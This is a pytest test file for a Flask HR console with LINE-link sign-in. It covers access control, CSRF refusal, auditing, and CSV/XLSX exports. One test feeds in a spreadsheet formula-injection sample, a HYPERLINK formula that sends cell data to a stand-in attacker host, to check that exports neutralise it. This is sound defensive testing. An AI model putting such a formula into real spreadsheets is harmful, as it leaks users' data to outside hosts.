"""The HR console over HTTP: sign-in through the LINE link, HR-only pages, CSRF, actions
audited, exports (CSV with BOM, XLSX) and `flask hr` commands. Real webhooks, real outbox
drain through the SDK to the fake LINE API, both databases."""
from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session

from bot import db
from bot.console import NAV
from bot.fake_line import FakeLine
from handlers import console_login
from models import (
    Agency,
    Announcement,
    AuditEntry,
    ConsoleLoginToken,
    Form,
    Role,
    RoleAssignment,
    Staff,
    utcnow,
)
from tests.builders import deliver_outbox, make_agreement, make_officer
from tests.hr_console import csrf, people, sign_in_link, signed_in

PAGES = ["/hr/", "/hr/people", "/hr/announcements", "/hr/forms", "/hr/import", "/hr/settings",
         "/hr/audit", "/hr/export/round/2570/1.csv", "/hr/export/round/2570/1.xlsx"]


def test_sign_in_through_the_line_link_and_every_page_renders(app: Flask, client: FlaskClient,
                                                              fake_line: FakeLine) -> None:
    p = people(app)
    for page in PAGES:
        assert client.get(page).status_code == 403, page  # not signed in
    signed_in(app, client, fake_line, p["hr_user"])
    cookie = client.get_cookie("hr_session")
    assert cookie is not None and cookie.http_only
    for page in PAGES + [f"/hr/people/{p['officer_id']}", "/hr/people?q=สมชาย&state=not_reported"]:
        response = client.get(page)
        assert response.status_code == 200, (page, response.get_data(as_text=True)[:500])
        response.close()
    nav = client.get("/hr/").get_data(as_text=True)
    assert all(item.label in nav for item in NAV)
    dashboard = client.get("/hr/").get_data(as_text=True)
    assert "<svg" in dashboard and "ภาพรวมรอบการประเมิน" in dashboard
    assert "http://" not in dashboard.replace("http://www.w3.org/2000/svg", "")  # nothing external
    search = client.get("/hr/people?q=สมชาย").get_data(as_text=True).split('id="people"')[1]
    assert "นายสมชาย ตั้งใจ" in search and "พิมพ์ชนก" not in search


def test_a_non_hr_user_gets_no_link_and_no_page(app: Flask, client: FlaskClient,
                                                fake_line: FakeLine) -> None:
    p = people(app)
    assert sign_in_link(app, client, fake_line, p["officer_user"]) is None
    with app.app_context(), db.sessions()() as session:
        assert session.scalar(select(func.count()).select_from(ConsoleLoginToken)) == 0
        # even a session made for them by hand is refused: the HR role is checked every time
        made = console_login.redeem(session, "nope", utcnow())
        assert made is None
        officer = session.get(Staff, p["officer_id"])
        token = "t" * 40
        session.add(ConsoleLoginToken(token_hash=console_login.digest(token), staff_id=officer.id,
                                      expires_at=utcnow() + timedelta(minutes=5)))
        session.commit()
    assert client.post(f"/hr/login/{token}").status_code == 403
    for page in PAGES:
        response = client.get(page)
        assert response.status_code == 403, page
        response.close()


def test_losing_the_hr_role_ends_console_access(app: Flask, client: FlaskClient,
                                               fake_line: FakeLine) -> None:
    p = people(app)
    signed_in(app, client, fake_line, p["hr_user"])
    assert client.get("/hr/").status_code == 200
    with app.app_context(), db.sessions()() as session:
        for row in session.scalars(select(RoleAssignment).where(
                RoleAssignment.staff_id == p["hr_id"])):
            session.delete(row)
        session.commit()
    for page in PAGES:
        response = client.get(page)
        assert response.status_code == 403, page
        response.close()


def test_a_link_works_once_and_only_for_ten_minutes(app: Flask, client: FlaskClient,
                                                    fake_line: FakeLine) -> None:
    p = people(app)
    link = sign_in_link(app, client, fake_line, p["hr_user"])
    assert link is not None
    path = link.split("127.0.0.1:8000", 1)[1]
    assert client.post(path).status_code == 302
    other = app.test_client()
    reused = other.post(path)
    assert reused.status_code == 403 and "ลิงก์นี้ใช้ไม่ได้" in reused.get_data(as_text=True)
    assert other.get("/hr/").status_code == 403
    stale = sign_in_link(app, client, fake_line, p["hr_user"])
    assert stale is not None and stale != link
    with app.app_context(), db.sessions()() as session:
        for row in session.scalars(select(ConsoleLoginToken).where(
                ConsoleLoginToken.used_at.is_(None))):
            row.expires_at = utcnow() - timedelta(seconds=1)
        session.commit()
        refused = [e.details.get("reason") for e in session.scalars(
            select(AuditEntry).where(AuditEntry.action == "console.login_refused"))]
    assert refused == ["used"]
    third = app.test_client()
    assert third.post(stale.split("127.0.0.1:8000", 1)[1]).status_code == 403
    assert third.get("/hr/").status_code == 403


def test_a_forged_csrf_token_is_refused_and_changes_nothing(app: Flask, client: FlaskClient,
                                                            fake_line: FakeLine) -> None:
    p = people(app)
    signed_in(app, client, fake_line, p["hr_user"])
    form = {"body": "ประกาศทดสอบ", "audience": "all", "action": "send"}
    for token in ("", "forged-token"):
        response = client.post("/hr/announcements", data={**form, "csrf_token": token})
        assert response.status_code == 400
    response = client.post("/hr/settings", data={"csrf_token": "x", "achievement_weight": "80",
                                                 "competency_weight": "20"})
    assert response.status_code == 400
    with app.app_context(), db.sessions()() as session:
        assert session.scalar(select(func.count()).select_from(Announcement)) == 0
        assert session.get(Agency, p["agency_id"]).achievement_weight == 70
        assert session.scalar(select(func.count()).select_from(AuditEntry).where(
            AuditEntry.action == "console.csrf_refused")) == 3
    ok = client.post("/hr/announcements", data={**form, "csrf_token": csrf(client)})
    assert ok.status_code == 302


def test_compose_announcement_and_form_then_export(app: Flask, client: FlaskClient,
                                                   fake_line: FakeLine) -> None:
    p = people(app)
    signed_in(app, client, fake_line, p["hr_user"])
    token = csrf(client)
    preview = client.post("/hr/announcements", data={
        "csrf_token": token, "body": "ขอเชิญประชุม", "audience": "all", "action": "preview"})
    assert 'id="preview-count">2<' in preview.get_data(as_text=True)
    sent = client.post("/hr/announcements", data={
        "csrf_token": token, "body": "ขอเชิญประชุม", "audience": "all", "action": "send"})
    assert sent.status_code == 302
    bad = client.post("/hr/announcements", data={
        "csrf_token": token, "body": "", "audience": "unit", "unit": "999999", "action": "send"})
    assert bad.status_code == 200 and 'class="error"' in bad.get_data(as_text=True)
    with app.app_context(), db.sessions()() as session:
        announcement = session.scalars(select(Announcement)).one()
        deliver_outbox(db.sessions(), app.extensions["line.gateway"])
    got = [d for d in fake_line.messages_for(p["officer_user"]) if d.kind == "multicast"]
    assert got and "ขอเชิญประชุม" in str(got[0].message)
    page = client.get(f"/hr/announcements/{announcement.id}").get_data(as_text=True)
    assert "นายสมชาย ตั้งใจ" in page  # not acknowledged yet
    ack_csv = client.get(f"/hr/export/announcement/{announcement.id}.csv")
    assert ack_csv.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(ack_csv.data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["รหัสบุคลากร", "ชื่อ-สกุล", "หน่วยงาน"] and len(rows) == 3
    assert all(row[4] == "ใช่" for row in rows[1:])  # delivered

    form_page = client.get("/hr/forms").get_data(as_text=True)
    assert "# กิจกรรมการดำเนินการ" in form_page  # seed 002 is the template
    from bot.console.views import template_text
    from handlers.hr_forms import CAREER_PATH, CAREER_PATH_TITLE

    fields = {"csrf_token": token, "title": CAREER_PATH_TITLE,
              "sections": template_text(CAREER_PATH), "due_on": "2099-08-31",
              "audience": "all"}
    assert client.post("/hr/forms", data={**fields, "action": "send"}).status_code == 302
    with app.app_context(), db.sessions()() as session:
        form = session.scalars(select(Form)).one()
        assert [s["kind"] for s in form.sections] == ["multi", "multi", "text"]
    results = client.get(f"/hr/forms/{form.id}").get_data(as_text=True)
    assert "<svg" in results and 'id="submitted">0<' in results
    xlsx = client.get(f"/hr/export/form/{form.id}.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.data), read_only=True).active
    header = next(sheet.iter_rows(values_only=True))
    assert header[:2] == ("รหัสบุคลากร", "ชื่อ-สกุล") and "ปัญหา/ข้อเสนอแนะ" in header

    round_xlsx = client.get("/hr/export/round/2570/1.xlsx")
    assert round_xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(round_xlsx.data), read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "รหัสบุคลากร" and len(values) == 1 + 10  # 2 people × 5 KPIs
    assert client.get("/hr/export/round/2570/1.pdf").status_code == 404
    with app.app_context(), db.sessions()() as session:
        actions = set(session.scalars(select(AuditEntry.action)))
    assert {"console.login", "console.announcement_sent", "console.form_sent",
            "console.export"} <= actions


def test_settings_and_import_pages(app: Flask, client: FlaskClient, fake_line: FakeLine,
                                   tmp_path: Any) -> None:
    p = people(app)
    signed_in(app, client, fake_line, p["hr_user"])
    token = csrf(client, "/hr/settings")
    bad = client.post("/hr/settings", data={"csrf_token": token, "achievement_weight": "60",
                                            "competency_weight": "40"})
    assert "ไม่น้อยกว่า 70" in bad.get_data(as_text=True)
    good = client.post("/hr/settings", data={"csrf_token": token, "achievement_weight": "80",
                                             "competency_weight": "20"})
    assert "บันทึกแล้ว" in good.get_data(as_text=True)
    with app.app_context(), db.sessions()() as session:
        agency = session.get(Agency, p["agency_id"])
        assert (agency.achievement_weight, agency.competency_weight) == (80, 20)
        agency_code = agency.code
    broken = "รหัสบุคลากร,ชื่อ-สกุล,ตำแหน่ง,หน่วยงาน\n,ไม่มีรหัส,นักวิชาการ,กองทดสอบ\n"
    response = client.post("/hr/import", data={
        "csrf_token": token, "kind": "staff",
        "file": (io.BytesIO(broken.encode("utf-8-sig")), "staff.csv")},
        content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert 'id="problems"' in page and "แถว 2" in page
    assert agency_code
    # a good file: the demo agency's staff list, imported with the same importer as the CLI
    good_file = Path(__file__).parent.parent / "bot" / "demo_data" / "staff.csv"
    response = client.post("/hr/import", data={
        "csrf_token": token, "kind": "staff",
        "file": (io.BytesIO(good_file.read_bytes()), "staff.csv")},
        content_type="multipart/form-data")
    assert response.status_code == 200 and 'id="problems"' not in response.get_data(as_text=True)
    with app.app_context(), db.sessions()() as session:
        imported = session.scalars(select(Staff).where(Staff.agency_id == p["agency_id"],
                                                       Staff.staff_code.like("D%"))).all()
        assert len(imported) == len(good_file.read_text(encoding="utf-8-sig").splitlines()) - 1
        assert session.scalars(select(AuditEntry).where(
            AuditEntry.action == "console.import")).one()


def test_flask_hr_add_admin_and_export(app: Flask, tmp_path: Any) -> None:
    p = people(app)
    runner = app.test_cli_runner()
    result = runner.invoke(args=["hr", "add-admin", p["officer_code"]])
    assert result.exit_code == 0, result.output
    assert "เป็นผู้ดูแล HR แล้ว" in result.output
    assert "อยู่แล้ว" in runner.invoke(args=["hr", "add-admin", p["officer_code"]]).output
    assert runner.invoke(args=["hr", "add-admin", "NOBODY"]).exit_code != 0
    out = tmp_path / "round.csv"
    result = runner.invoke(args=["hr", "export", "round", "2570", "1", "--format", "csv",
                                 "-o", str(out)])
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "รหัสบุคลากร" and len(rows) == 11
    status = rows[0].index("สถานะรายงาน")
    assert {row[status] for row in rows[1:]} == {"ยังไม่รายงาน"}
    xlsx = tmp_path / "round.xlsx"
    assert runner.invoke(args=["hr", "export", "round", "2570", "1",
                               "-o", str(xlsx)]).exit_code == 0
    assert len(list(load_workbook(xlsx).active.iter_rows(values_only=True))) == 11
    assert runner.invoke(args=["hr", "export", "round", "2599", "2",
                               "-o", str(xlsx)]).exit_code != 0


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_of_an_empty_round_has_the_thai_header(app: Flask, fmt: str, tmp_path: Any,
                                                      engine: Engine) -> None:
    from bot import exports
    from models.rounds import open_round

    with app.app_context(), db.sessions()() as session:
        officer, _ = make_officer(session)
        round_ = open_round(session, officer.agency_id, 2570, 2)
        path = tmp_path / f"x.{fmt}"
        table = exports.round_table(session, round_, app.config["SETTINGS"].tz)
        exports.write(table, fmt, str(path))
    # every date column has its ISO twin beside it, for machines
    headers = [header for header, _kind in table.columns()]
    assert headers[:7] == exports.ROUND_HEADERS[:6] + ["ลงนามข้อตกลง (ISO)"]
    assert [h for h in headers if not h.endswith("(ISO)")] == exports.ROUND_HEADERS
    if fmt == "csv":
        assert path.read_text("utf-8-sig").splitlines() == [",".join(headers)]
    else:
        assert next(load_workbook(path).active.iter_rows(values_only=True)) == tuple(headers)


def test_dashboard_counts(session: Session) -> None:
    from bot.console.data import dashboard
    from models import ProgressReport
    from models.rounds import current_round

    hr, _ = make_officer(session, roles=(Role.HR_ADMIN,))
    a, _ = make_officer(session, unit=hr.unit)
    b, _ = make_officer(session, unit=hr.unit)
    make_agreement(session, a)
    make_agreement(session, b)
    round_ = current_round(session, hr.agency_id, date(2026, 11, 21), with_deadlines=True)
    session.add(ProgressReport(officer_id=a.id, round_id=round_.id, reported_on=date(2026, 11, 1),
                               status="confirmed"))
    session.flush()
    early = dashboard(session, hr.agency_id, round_, date(2026, 11, 21)).total
    assert (early.staff, early.with_kpis, early.reported, early.confirmed, early.overdue) == (
        3, 2, 1, 1, 0)
    late = dashboard(session, hr.agency_id, round_, date(2027, 3, 20)).total
    assert late.overdue == 1  # b never reported and the progress deadline (1 Mar) has passed


def test_the_audit_page_shows_only_this_agencys_entries(app: Flask, client: FlaskClient,
                                                       fake_line: FakeLine) -> None:
    p = people(app)
    with app.app_context(), db.sessions()() as session:
        other, _ = make_officer(session, name="นายอื่น ต่างกรม", roles=(Role.HR_ADMIN,))
        from models import audit
        audit(session, "console.person_viewed", actor_staff_id=other.id, subject="staff:999")
        session.commit()
    signed_in(app, client, fake_line, p["hr_user"])
    page = client.get("/hr/audit").get_data(as_text=True)
    assert "เข้าสู่หน้าเว็บ HR" in page  # this agency's own sign-in, in Thai
    assert "console.login" not in page
    assert "นายอื่น ต่างกรม" not in page and "บุคลากร #999" not in page


def test_exports_never_turn_typed_text_into_a_formula(tmp_path: Any) -> None:
    """An officer's answer `=HYPERLINK(…)` stays text in the CSV and the XLSX HR opens."""
    from bot import exports

    typed = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'
    table = exports.Table(name="t", headers=["คำตอบ", "ตัวเลข"],
                          rows=iter([[typed, -5], ["-ลบ", 3], ["ปกติ", 1]]))
    body = b"".join(exports.csv_chunks(table)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1] == ["'" + typed, "-5"] and rows[2][0] == "'-ลบ" and rows[3][0] == "ปกติ"
    path = tmp_path / "t.xlsx"
    exports.write_xlsx(exports.Table(name="t", headers=["คำตอบ"], rows=iter([[typed]])),
                       str(path))
    cell = load_workbook(path)["t"]["A2"]
    assert cell.value == typed and cell.data_type == "s"
